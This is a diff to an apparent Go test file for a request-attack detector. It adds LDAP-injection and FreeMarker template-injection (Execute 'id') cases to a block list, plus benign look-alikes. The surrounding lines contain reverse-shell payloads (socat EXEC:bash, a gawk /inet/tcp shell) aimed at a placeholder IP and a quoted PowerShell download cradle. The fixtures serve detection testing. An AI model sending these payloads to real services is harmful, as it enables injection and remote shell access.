@@ -114,6 +114,9 @@ var recallBlock = []struct {
 	{"ldap and term between terms", query("uid", "bob)&(mail=*")},
 	{"php session file as an upload name", withHeaders("X-File-Name", "sess_0f1e2d3c4b5a69788796a5b4c3")},
 
+	{"ldap absolute true filter", query("uid", "admin)(&)")},
+	{"freemarker class built in a comment", post("application/json", `{"comment":"great post <#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")} thanks for sharing it with us"}`)},
+
 	// Shells and scripts handed to a network peer, whole values.
 	{"socat program address", query("host", "socat TCP:203.0.113.9:9001 EXEC:bash")},
 	{"gawk network file", post("application/json", `{"target":"awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.9/9001\";while(1){s|&getline c;print c|&s}}'"}`)},
@@ -165,6 +168,8 @@ var recallBenign = []struct {
 	{"function call chained", query("q", "connect(mapState)(App)")},
 	{"session-like upload name too short", withHeaders("X-File-Name", "sess_notes.txt")},
 	{"exec prefix in a config key", query("q", "exec:shutdown-hook")},
+	{"ldap filter with an empty and", query("filter", "(&)")},
+	{"freemarker new explained in prose", post("application/json", `{"comment":"In FreeMarker the ?new() built-in creates an object of a TemplateModel class; the docs list which classes are allowed by default"}`)},
 	{"powershell cradle explained in markdown", post("application/json", `{"body":"## Detecting cradles\n\nAttackers often run `+"`IEX(New-Object Net.WebClient).DownloadString(url)`"+` to fetch a script; log PowerShell script blocks to see it.\n"}`)},
 }
 
